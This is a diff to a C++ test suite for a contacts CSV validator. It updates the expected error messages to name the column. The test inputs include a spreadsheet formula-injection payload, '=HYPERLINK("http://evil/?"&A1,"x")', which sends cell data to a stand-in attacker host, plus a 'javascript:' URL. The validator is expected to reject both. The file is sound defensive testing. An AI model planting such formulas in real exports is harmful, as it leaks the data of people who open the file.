@@ -5,6 +5,7 @@
 #include "contacts_fixture.h"
 #include "core/encoding.h"
 #include "helpers.h"
+#include "core/i18n.h"
 
 using namespace mamori;
 using mamori::testing::formatted;
@@ -80,13 +81,13 @@ TEST_SUITE("contacts_csv") {
         out);
     CHECK(formatted(out) ==
           std::vector<std::string>{
-              "3:7: error: '=HYPERLINK(\"http://evil/?\"&A1,\"x\")' starts with '=', which Excel runs as a formula: "
+              "3:7: error: column G (備考): '=HYPERLINK(\"http://evil/?\"&A1,\"x\")' starts with '=', which Excel runs as a formula: "
               "remove it, or write an apostrophe before it ('=…) to keep it as text, as mamori contacts export does",
-              "4:3: error: '@SUM(1)' starts with '@', which Excel runs as a formula: remove it, or write an apostrophe "
+              "4:3: error: column C (相談先): '@SUM(1)' starts with '@', which Excel runs as a formula: remove it, or write an apostrophe "
               "before it ('@…) to keep it as text, as mamori contacts export does",
-              "4:5: error: '+81-52-954-6370' starts with '+', which Excel runs as a formula: remove it, or write an "
+              "4:5: error: column E (電話番号): '+81-52-954-6370' starts with '+', which Excel runs as a formula: remove it, or write an "
               "apostrophe before it ('+…) to keep it as text, as mamori contacts export does",
-              "4:7: error: '-平日のみ' starts with '-', which Excel runs as a formula: remove it, or write an "
+              "4:7: error: column G (備考): '-平日のみ' starts with '-', which Excel runs as a formula: remove it, or write an "
               "apostrophe before it ('-…) to keep it as text, as mamori contacts export does",
               "4: error: missing 相談先 (organization)"});
   }
@@ -102,8 +103,8 @@ TEST_SUITE("contacts_csv") {
         out);
     CHECK(formatted(out) ==
           std::vector<std::string>{
-              "3:3: error: the cell holds a control character (U+001B), which cannot be shown on a page: remove it",
-              "3:7: error: the cell holds a control character (U+0085), which cannot be shown on a page: remove it",
+              "3:3: error: column C (相談先): the cell holds a control character (U+001B), which cannot be shown on a page: remove it",
+              "3:7: error: column G (備考): the cell holds a control character (U+0085), which cannot be shown on a page: remove it",
               "3: error: missing 相談先 (organization)"});
   }
 
@@ -134,7 +135,7 @@ TEST_SUITE("contacts_csv") {
     CHECK(formatted(out) == std::vector<std::string>{
                                 "1:2: error: 'いつか' is not a date: write it like 2025-05-01",
                                 "2:5: error: unknown column '電話' (did you mean '電話番号'?)",
-                                "3:4: error: URL 'javascript:x' must start with https:// or http://",
+                                "3:4: error: column D (URL): URL 'javascript:x' must start with https:// or http://",
                                 "3: error: no phone number: give one, or say in 備考 (note) how to reach this window, "
                                 "e.g. \"ウェブサイトのフォームから問い合わせます\"",
                                 "4:7: error: row 4 has a value in column 7, which has no header",
